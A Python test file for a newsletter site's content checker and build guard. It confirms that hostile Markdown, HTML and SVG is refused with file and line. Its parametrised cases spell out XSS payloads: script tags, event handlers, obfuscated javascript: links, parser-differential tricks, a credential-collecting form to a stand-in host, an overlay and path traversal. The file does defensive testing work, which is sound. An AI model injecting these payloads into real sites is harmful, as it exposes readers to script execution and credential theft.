"""Hostile content: every file below is refused by `polyvox check`, with file and line.

The build reads content through the same loader (test_nothing_lost shows the plugin alone
refusing a hostile file), and a page guard stops it should the loader ever miss something."""

from __future__ import annotations

import logging
import shutil
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.conftest import REPO
from tests.support import mkdocs_build

C = "content/contributors/"
I = "content/issues/2026-09/"  # noqa: E741
A = "content/ama/2026-09-10-voices/"
PIECE = I + "hosting.md"
HEAD = "---\ntitle: Rotating hosts\nauthors: [amara]\nkind: article\n---\n"
"""Front matter of a valid contribution: its body starts on line 6."""
QUESTION = "---\nasked_by: anon\n---\nHow do you start?\n\n<!-- answer: amara -->\n"
SCHEME = (
    "uses the scheme '{}:', which is not allowed: link with https://, http:// or mailto:, "
    "or with a path inside the site"
)
JS = SCHEME.format("javascript")
AS_CODE = "remove it (to show it as code, put it between ``` fences)"
SCRIPT = f"<script> is not allowed: it runs code in readers' browsers; {AS_CODE}"
EMBEDS = "is not allowed: it embeds another page or program in the site; " + AS_CODE


def as_text(tag: str) -> str:
    """The fix offered for a tag inside a sentence: backticks (a fence is for a block)."""
    return (
        f"remove it (to show the tag as text, put it in backticks: `<{tag}>`, or write &lt;{tag}>)"
    )


EMBEDS_IN_SENTENCE = EMBEDS.replace(AS_CODE, as_text("iframe"))
HANDLER = "event handlers run code in readers' browsers; remove it"
NOT_LISTED = (
    "is not among the elements members' HTML may use (see 'HTML you may write' in CONTRIBUTING.md)"
)
READ_DIFFERENTLY = (
    "is not allowed: it is read differently by browsers and by checkers, so it can hide code; "
    + AS_CODE
)


IMAGES = {I + "x.png": b"\x89PNG", I + "a.png": b"\x89PNG", "content/assets/me.png": b"\x89PNG"}
"""Images the hostile bodies show, so that each case is refused for what it holds alone."""


def piece(body: str) -> dict[str, str]:
    """A contribution with the given body (which starts on line 6)."""
    return {PIECE: HEAD + body}


HOSTILE = [
    pytest.param(
        piece("Hello\n\n<script>alert(1)</script>\n"), [f"{PIECE}:8: error: {SCRIPT}"], id="script"
    ),
    pytest.param(
        {A + "questions/first.md": QUESTION + 'Look: <iframe src="https://e.example"></iframe>\n'},
        [f"{A}questions/first.md:7: error: <iframe> {EMBEDS_IN_SENTENCE}"],
        id="iframe in an answer",
    ),
    pytest.param(
        {
            A + "index.md": (
                "---\ntitle: Plural voices\ndate: 2026-09-10\nguests: [amara]\nhosts: [tomas]\n"
                'issue: 2026-09\n---\nAsk.\n\n<object data="x.swf"></object><embed src="x.swf">\n'
            )
        },
        [f"{A}index.md:10: error: <embed> {EMBEDS}", f"{A}index.md:10: error: <object> {EMBEDS}"],
        id="object and embed in a session intro",
    ),
    pytest.param(
        {
            I + "index.md": (
                "---\ntitle: Rendez-vous\nnumber: 1\ndate: 2026-09-01\neditors: [amara]\n---\n"
                "Welcome.\n<style>body{display:none}</style>\n"
            )
        },
        [f"{I}index.md:8: error: <style> is not allowed: it restyles the whole site; {AS_CODE}"],
        id="style in an editorial",
    ),
    pytest.param(
        {
            C + "amara.md": "---\nname: Amara Okafor\n---\nHost. "
            '<form action="https://e.example/steal"><input name=pw></form>\n'
        },
        [
            f"{C}amara.md:4: error: <form> is not allowed: it collects what readers type; "
            + as_text("form"),
            f"{C}amara.md:4: error: <input> is not allowed: it collects what readers type; "
            + as_text("input"),
        ],
        id="form in a profile",
    ),
    pytest.param(
        piece('<meta http-equiv="refresh" content="0;url=https://e.example">\n'),
        [
            f"{PIECE}:6: error: <meta> is not allowed: it changes how browsers load the page; "
            + AS_CODE
        ],
        id="meta refresh",
    ),
    pytest.param(
        piece('<base href="https://e.example/">\n'),
        [
            f"{PIECE}:6: error: <base> is not allowed: it redirects every link on the page; {AS_CODE}"
        ],
        id="base",
    ),
    pytest.param(
        piece('<link rel="stylesheet" href="https://e.example/x.css">\n'),
        [
            f"{PIECE}:6: error: <link> is not allowed: it loads outside files into the page; {AS_CODE}"
        ],
        id="link element",
    ),
    pytest.param(
        piece('<img src="x.png" alt="" onerror="alert(1)">\n'),
        [f"{PIECE}:6: error: attribute 'onerror' on <img> is not allowed: {HANDLER}"],
        id="event handler",
    ),
    pytest.param(
        piece("An icon: <svg/onload=alert(1)>\n"),
        [f"{PIECE}:6: error: attribute 'onload' on <svg> is not allowed: {HANDLER}"],
        id="inline svg handler",
    ),
    pytest.param(
        piece("[click](javascript:alert(1))\n"),
        [f"{PIECE}:6: error: link 'javascript:alert(1)' {JS}"],
        id="javascript link",
    ),
    pytest.param(
        piece("[click](&#106;avascript:alert(1))\n"),
        [f"{PIECE}:6: error: link '&#106;avascript:alert(1)' {JS}"],
        id="entity-encoded scheme",
    ),
    pytest.param(
        piece("[click](java&#9;script:alert(1))\n"),
        [f"{PIECE}:6: error: link 'java&#9;script:alert(1)' {JS}"],
        id="tab inside the scheme",
    ),
    pytest.param(
        piece("[click](<javascript:alert(1)>)\n"),
        [
            f"{PIECE}:6: error: <javascript:alert(1)> is not allowed: it {NOT_LISTED}; "
            + as_text("javascript:alert(1)"),
            f"{PIECE}:6: error: link 'javascript:alert(1)' {JS}",
        ],
        id="angle-bracket destination",
    ),
    pytest.param(
        piece("[click](java\nscript:alert(1))\n"),
        [f"{PIECE}:6: error: link 'java\\nscript:alert(1)' {JS}"],
        id="newline inside the scheme",
    ),
    pytest.param(
        piece("![pic](data:image/svg+xml;base64,PHN2Zz4=)\n"),
        [f"{PIECE}:6: error: image 'data:image/svg+xml;base64,PHN2Zz4=' {SCHEME.format('data')}"],
        id="data image",
    ),
    pytest.param(
        piece("[click][evil]\n\n[evil]: javascript:alert(1)\n"),
        [f"{PIECE}:8: error: link definition 'javascript:alert(1)' {JS}"],
        id="reference definition",
    ),
    pytest.param(
        piece("Read [more][r].\n\n- [r]: javascript:alert(document.cookie)\n"),
        [f"{PIECE}:8: error: link definition 'javascript:alert(document.cookie)' {JS}"],
        id="reference definition in a list item",
    ),
    pytest.param(
        piece(
            "[a][r] [b][s] [c][t]\n\n+ [r]: <javascript:x>\n1. [s]:\n   vbscript:y\n> - [t]: javascript:z\n"
        ),
        [
            f"{PIECE}:8: error: <javascript:x> is not allowed: it {NOT_LISTED}; "
            + as_text("javascript:x"),
            f"{PIECE}:8: error: link definition 'javascript:x' {JS}",
            f"{PIECE}:10: error: link definition 'vbscript:y' {SCHEME.format('vbscript')}",
            f"{PIECE}:11: error: link definition 'javascript:z' {JS}",
        ],
        id="reference definitions in lists and quotes",
    ),
    pytest.param(
        piece("<javascript://%0aalert(1)>\n"),
        [f"{PIECE}:6: error: autolink 'javascript://%0aalert(1)' {JS}"],
        id="autolink",
    ),
    pytest.param(
        piece('<a href="vbscript:msgbox(1)">x</a>\n'),
        [f"{PIECE}:6: error: <a href> 'vbscript:msgbox(1)' {SCHEME.format('vbscript')}"],
        id="vbscript in raw html",
    ),
    pytest.param(
        piece('A paragraph.\n{: onclick="alert(1)" }\n'),
        [
            f"{PIECE}:7: error: attribute list '{{: onclick=\"alert(1)\" }}' sets 'onclick': {HANDLER}"
        ],
        id="attribute list handler",
    ),
    pytest.param(
        piece("## Hi { onmouseover=alert(1) }\n"),
        [
            f"{PIECE}:6: error: attribute list '{{ onmouseover=alert(1) }}' sets 'onmouseover': {HANDLER}"
        ],
        id="heading attribute list",
    ),
    pytest.param(
        piece('[x](https://example.org){ href="javascript:alert(1)" }\n'),
        [f"{PIECE}:6: error: attribute list 'href' 'javascript:alert(1)' {JS}"],
        id="attribute list overriding href",
    ),
    pytest.param(
        piece("<!--><img src=x.png alt='' onerror=alert(1)>-->\n"),
        [f"{PIECE}:6: error: attribute 'onerror' on <img> is not allowed: {HANDLER}"],
        id="comment that browsers end at once",
    ),
    pytest.param(
        piece("<!-- note\n\n<script>alert(1)</script>\n"),
        [f"{PIECE}:8: error: {SCRIPT}"],
        id="unclosed comment",
    ),
    pytest.param(
        piece("Text\n\n<body onload=alert(1)>\n"),
        [
            f"{PIECE}:8: error: <body> is not allowed: the page already has one, written by the "
            "site, and would take its attributes; remove it",
            f"{PIECE}:8: error: attribute 'onload' on <body> is not allowed: {HANDLER}",
        ],
        id="second body",
    ),
    pytest.param(
        piece("<noscript><p title=\"</noscript><img src=x.png alt='' onerror=alert(1)>\">\n"),
        [
            f"{PIECE}:6: error: <noscript> {READ_DIFFERENTLY}",
            f"{PIECE}:6: error: attribute 'onerror' on <img> is not allowed: {HANDLER}",
        ],
        id="noscript parser differential",
    ),
    pytest.param(
        piece(
            "<textarea><img title=\"</textarea><img src=x.png alt='' onerror=alert(1)>\">"
            "</textarea>\n"
        ),
        [
            f"{PIECE}:6: error: <textarea> {READ_DIFFERENTLY}",
            f"{PIECE}:6: error: attribute 'onerror' on <img> is not allowed: {HANDLER}",
        ],
        id="textarea parser differential",
    ),
    pytest.param(
        piece('<!DOCTYPE x "><script>alert(1)</script>">\n'),
        [f"{PIECE}:6: error: {SCRIPT}"],
        id="doctype trick",
    ),
    pytest.param(
        piece("<div>\n`<script>alert(1)</script>`\n</div>\n"),
        [f"{PIECE}:7: error: {SCRIPT}"],
        id="backticks inside an html block are not code",
    ),
    pytest.param(
        piece('<math><maction xlink:href="javascript:alert(1)">x</maction></math>\n'),
        [
            f"{PIECE}:6: error: <maction href> 'javascript:alert(1)' {JS}",
            f"{PIECE}:6: error: <maction> is not allowed: it {NOT_LISTED}; {AS_CODE}",
            f"{PIECE}:6: error: <math> {READ_DIFFERENTLY}",
        ],
        id="mathml link",
    ),
    pytest.param(
        piece('<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>\n'),
        [
            f"{PIECE}:6: error: <animate to> 'javascript:alert(1)' {JS}",
            f"{PIECE}:6: error: <animate> is not allowed: it can rewrite another element's "
            f"attributes, a link into code among them; {AS_CODE}",
        ],
        id="svg animation rewriting href",
    ),
    pytest.param(
        piece('<img alt="" srcset="a.png 1x, javascript:alert(1) 2x">\n'),
        [f"{PIECE}:6: error: <img srcset> 'javascript:alert(1)' {JS}"],
        id="srcset",
    ),
    pytest.param(
        piece('<a href="https://example.org" ping="https://tracker.example">x</a>\n'),
        [
            f"{PIECE}:6: error: attribute 'ping' on <a> is not allowed: it reports every click "
            "to another site; remove it"
        ],
        id="ping",
    ),
    pytest.param(
        piece("<div>" * 300 + "<script>alert(1)</script>\n"),
        [
            f"{PIECE}:6: error: {SCRIPT}",
            f"{PIECE}:6: error: the HTML here nests elements too deep to be checked: simplify it",
        ],
        id="html too deep to parse",
    ),
    pytest.param(
        piece("[" * 2001 + "\n"),
        [
            f"{PIECE}:6: error: 2,001 '[' characters outside code; the limit is 2,000, as the "
            "site's Markdown renderer slows down sharply on more: put long listings in a "
            "fenced code block"
        ],
        id="markup that slows the renderer",
    ),
    pytest.param(
        {"content/pages/about.md": "# About\n\n<script>alert(1)</script>\n"},
        [f"content/pages/about.md:3: error: {SCRIPT}"],
        id="free page",
    ),
    pytest.param(
        {
            C + "bo.md": "---\nname: Bo\navatar: assets/bo.svg\n---\n",
            "content/assets/bo.svg": (
                '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>\n'
            ),
        },
        [f"content/assets/bo.svg:2: error: {SCRIPT}"],
        id="svg avatar with a script",
    ),
    pytest.param(
        {
            "content/assets/logo.svg": (
                '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
            )
        },
        [
            f"content/assets/logo.svg:1: error: attribute 'onload' on <svg> is not allowed: {HANDLER}"
        ],
        id="svg image with a handler",
    ),
    pytest.param(
        {
            "content/assets/logo.svg": (
                '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                '\n<a xlink:href="javascript:alert(1)"><circle r="4"/></a>\n</svg>\n'
            )
        },
        [f"content/assets/logo.svg:2: error: <a href> 'javascript:alert(1)' {JS}"],
        id="svg image with a script link",
    ),
    pytest.param(
        {"content/assets/logo.svg": "<svg><g></svg>\n"},
        [
            "content/assets/logo.svg:1: error: not well-formed XML (Opening and ending tag "
            "mismatch: g line 1 and svg, line 1, column 15): export it again"
        ],
        id="svg that is not xml",
    ),
    pytest.param(
        {"content/assets/page.html": "<script>alert(1)</script>\n"},
        [
            "content/assets/page.html: error: '.html' files are not accepted in content/: a "
            "browser would open one as a page of this site and run it; write it as Markdown, "
            "or link to where it lives"
        ],
        id="html file",
    ),
    pytest.param(
        piece("![x](../../../../etc/passwd.png)\n"),
        [
            f"{PIECE}:6: error: image '../../../../etc/passwd.png' leaves content/: keep images "
            "inside content/, e.g. in content/assets/"
        ],
        id="image path leaving content",
    ),
    pytest.param(
        piece("![x](/etc/x.png)\n"),
        [
            f"{PIECE}:6: error: image '/etc/x.png' is absolute: write it relative to this "
            "file, e.g. ../../assets/x.png"
        ],
        id="absolute image path",
    ),
    pytest.param(
        piece('<img src="/x.png" alt="">\n'),
        [
            f"{PIECE}:6: error: <img src> '/x.png' is absolute: write it relative to this file, "
            "e.g. ../../assets/x.png"
        ],
        id="absolute image path in html",
    ),
    pytest.param(
        {C + "bo.md": "---\nname: Bo\nlinks:\n  Site: javascript:alert(1)\n---\n"},
        [f"{C}bo.md:4: error: 'links.Site' 'javascript:alert(1)' {JS}"],
        id="profile link with a script",
    ),
    pytest.param(
        {C + "bo.md": "---\nname: Bo\nlinks:\n  Site: https//example.org\n---\n"},
        [
            f"{C}bo.md:4: error: 'links.Site' 'https//example.org' is missing the ':' after its "
            "scheme: write https://..."
        ],
        id="profile link without colon",
    ),
    pytest.param(
        piece("[x](https://exa mple.org)\n"),
        [
            f"{PIECE}:6: error: link 'https://exa mple.org' contains a space: write it as %20 "
            "(or check for a missing ')')"
        ],
        id="space in a link",
    ),
    pytest.param(
        piece("[x](http:/example.org)\n"),
        [
            f"{PIECE}:6: error: link 'http:/example.org' is malformed: it has no host after "
            "'http://', e.g. http://example.org/"
        ],
        id="no host",
    ),
    pytest.param(
        piece("[x](www.example.org)\n"),
        [
            f"{PIECE}:6: error: link 'www.example.org' has no scheme, so it would lead inside "
            "this site: write https://www.example.org"
        ],
        id="missing scheme",
    ),
    pytest.param(
        piece("[x](https://example.org:99999/)\n"),
        [
            f"{PIECE}:6: error: link 'https://example.org:99999/' is malformed (Port out of "
            "range 0-65535): copy it again from the browser's address bar"
        ],
        id="bad port",
    ),
    pytest.param(
        piece("[x](mailto:)\n"),
        [f"{PIECE}:6: error: link 'mailto:' is malformed: write an address after 'mailto:'"],
        id="mailto without address",
    ),
    pytest.param(
        piece("[x](tel:+123)\n"),
        [f"{PIECE}:6: error: link 'tel:+123' {SCHEME.format('tel')}"],
        id="other scheme",
    ),
]


@pytest.mark.parametrize(("files", "expected"), HOSTILE)
def test_check_refuses_hostile_content(content_tree, run_check, files, expected):
    """`polyvox check` names each piece of active content or bad link, with file and line."""
    code, lines = run_check(content_tree({**IMAGES, **files}))
    assert code == 1
    assert lines[:-1] == expected


@contextmanager
def mkdocs_log():
    """Collect what mkdocs logs (errors included) while the block runs."""
    records: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: records.append(record.getMessage())
    logger = logging.getLogger("mkdocs")
    logger.addHandler(handler)
    try:
        yield records
    finally:
        logger.removeHandler(handler)


def build_unchecked(root: Path) -> tuple[bool, str]:
    """Build a content tree with the plugin alone (no `polyvox check` first): ok, and the log."""
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(REPO / "theme", root / "theme", dirs_exist_ok=True)
    with mkdocs_log() as records:
        built = mkdocs_build(root / "mkdocs.yml", root / "site")
    return built, "\n".join(records)


def test_code_shows_markup_without_running_it(content_tree, run_check):
    """Fenced code, code spans and comments may show any markup: it is text, not content."""
    body = (
        "```html\n<script>alert(1)</script>\n```\n\n"
        "Inline `<iframe>` and `[x](javascript:y)` are code.\n\n"
        "~~~\n<style>\n~~~\n\n<!-- a comment -->\n"
        "[ok](https://example.org) [rel](../2026-09/reply.md) [mail](mailto:a@example.org) "
        "<https://example.org/x> ![me](../../assets/me.png)\n"
    )
    code, lines = run_check(content_tree({**IMAGES, **piece(body)}))
    assert (code, lines) == (0, ["polyvox: 13 files checked, no problems found."])


def test_image_link_that_leaves_content_through_a_symlink(content_tree, run_check, tmp_path):
    """An image path inside content/ that is a symlink to a file outside is refused."""
    outside = tmp_path / "secret.png"
    outside.write_bytes(b"\x89PNG")
    root = content_tree(piece("![x](photo.png)\n"))
    (root / I / "photo.png").symlink_to(outside)
    _, lines = run_check(root)
    assert lines[:-1] == [
        f"{PIECE}:6: error: image 'photo.png' is a link that leads outside content/: copy the "
        "file in",
        f"{I}photo.png: error: file is a link that leads outside content/: copy the file in",
    ]


def test_folder_linked_from_outside_is_refused(content_tree, run_check, tmp_path):
    """A folder in content/ that is a symlink out of it would be published: it is refused."""
    (tmp_path / "elsewhere").mkdir()
    root = content_tree()
    (root / "content/assets").mkdir(exist_ok=True)
    (root / "content/assets/shared").symlink_to(tmp_path / "elsewhere")
    _, lines = run_check(root)
    assert lines[:-1] == [
        "content/assets/shared: error: file is a link that leads outside content/: copy the file in"
    ]


WARNINGS = [
    pytest.param(
        piece("[x](https://example.org/a?utm_source=news&id=3)\n"),
        f"{PIECE}:6: warning: link 'https://example.org/a?utm_source=news&id=3' carries the "
        "tracking parameter utm_source: remove it, e.g. https://example.org/a?id=3",
        id="utm in a piece",
    ),
    pytest.param(
        {
            C
            + "bo.md": "---\nname: Bo\nlinks:\n  Site: https://example.org/?fbclid=a&utm_medium=x\n---\n"
        },
        f"{C}bo.md:4: warning: 'links.Site' 'https://example.org/?fbclid=a&utm_medium=x' carries "
        "the tracking parameters fbclid, utm_medium: remove them, e.g. https://example.org/",
        id="click id in a profile",
    ),
]


@pytest.mark.parametrize(("files", "expected"), WARNINGS)
def test_tracking_parameters_are_warned_about(content_tree, run_check, files, expected):
    """Tracking parameters pass the check with a warning that gives the clean address."""
    code, lines = run_check(content_tree(files))
    assert (code, lines[:-1]) == (0, [expected])
    code, _ = run_check(content_tree(files), "--strict")
    assert code == 1


def issue(month: str, number: int, body: str) -> dict[str, str]:
    """An issue folder for month with one piece holding body."""
    return {
        f"content/issues/{month}/index.md": (
            f"---\ntitle: Issue {number}\nnumber: {number}\ndate: {month}-01\neditors: [amara]\n---\n"
        ),
        f"content/issues/{month}/links.md": (
            "---\ntitle: Links\nauthors: [tomas]\nkind: link\n---\n" + body
        ),
    }


REPEATED = {
    **issue("2026-06", 2, "[a](https://example.org/a/)\n"),
    **issue("2026-07", 3, "[b](https://example.org/b)\n"),
    **issue("2026-08", 4, "[c](https://example.org/c)\n"),
    **issue(
        "2026-10",
        5,
        "Again: [a](https://EXAMPLE.org/a#top) and [b](https://example.org/b?utm_source=x)\n",
    ),
}


def test_links_already_published_in_recent_issues_are_warned_about(content_tree, run_check):
    """A link one of the last 3 issues published gets a warning naming where; older ones not."""
    root = content_tree(REPEATED)
    _, lines = run_check(root)
    assert lines[:-1] == [
        "content/issues/2026-10/links.md:6: warning: link 'https://example.org/b?utm_source=x' "
        "carries the tracking parameter utm_source: remove it, e.g. https://example.org/b",
        "content/issues/2026-10/links.md:6: warning: link 'https://example.org/b?utm_source=x' "
        "was already published in issue 2026-07 (content/issues/2026-07/links.md:6): choose one "
        "readers have not seen, or drop it",
    ]


def test_how_far_back_links_are_compared_is_an_option(content_tree, run_check):
    """repeated_links_within in mkdocs.yml widens the window, and 0 turns the warning off."""
    root = content_tree(REPEATED)
    config = root / "mkdocs.yml"
    config.write_text("plugins:\n  - polyvox:\n      repeated_links_within: 4\n")
    _, lines = run_check(root)
    assert [line.split(": warning: ")[1][:60] for line in lines[:-1]] == [
        "link 'https://EXAMPLE.org/a#top' was already published in is",
        "link 'https://example.org/b?utm_source=x' carries the tracki",
        "link 'https://example.org/b?utm_source=x' was already publis",
    ]
    config.write_text("plugins:\n  - polyvox:\n      repeated_links_within: 0\n")
    _, lines = run_check(root)
    assert all("already published" not in line for line in lines)


def test_build_stops_on_a_page_that_carries_active_content_after_all(content_tree, monkeypatch):
    """If the body check ever missed something, the rendered-page guard still stops the build."""
    from polyvox.content import safety

    monkeypatch.setattr(safety, "check_body", lambda *args, **kwargs: ([], []))
    root = content_tree(piece("Hello <img src=x onerror=alert(1)>\n"))
    built, log = build_unchecked(root)
    assert not built
    assert (
        f"{PIECE} would put active content on the site, so nothing is written:\n"
        "  its HTML there, line 1: attribute 'onerror' on <img> is not allowed: event "
        "handlers run code in readers' browsers; remove it\n"
        "'polyvox check' should have refused it: please report it, with the content file, to "
        "the maintainers."
    ) in log


def test_the_page_guard_reads_data_blocks_as_data():
    """JSON-LD metadata is a <script> that holds data: the guard lets it pass, and only it."""
    from polyvox.content.safety import rendered_page_faults

    html = '<p>Hi</p>\n<script type="application/ld+json">{"@type": "Person"}</script>\n'
    assert rendered_page_faults(html) == []
    faults = rendered_page_faults(html + '<script type="module">alert(1)</script>\n')
    assert [(f.line, f.message.split(":")[0]) for f in faults] == [(3, "<script> is not allowed")]


@pytest.mark.parametrize(
    ("body", "found"),
    [
        pytest.param(
            '<a href="https://e.example/" style="position:fixed;inset:0">Log in again</a>\n',
            "attribute 'style' on <a> is not allowed: 'position:fixed;inset:0' can place the "
            "element over the site's own page; only 'text-align: left|right|center|justify' is "
            "accepted: remove the rest (the site's theme styles every element)",
            id="overlay",
        ),
        pytest.param(
            '<svg><use href="https://e.example/x.svg#x"/></svg>\n',
            "<use href> 'https://e.example/x.svg#x' is on another site, which every reader's "
            "browser would then call: copy the file into content/ (e.g. content/assets/) and "
            "point to it with a relative path",
            id="outside drawing",
        ),
    ],
)
def test_the_page_guard_stops_overlays_and_outside_calls(content_tree, monkeypatch, body, found):
    """Until pages are assembled from fragments, the whole-page guard refuses the issue's cases
    too, should the body check ever miss them."""
    from polyvox.content import safety

    monkeypatch.setattr(safety, "check_body", lambda *args, **kwargs: ([], []))
    built, log = build_unchecked(content_tree(piece(body)))
    assert not built
    assert f": {found}\n" in log, log
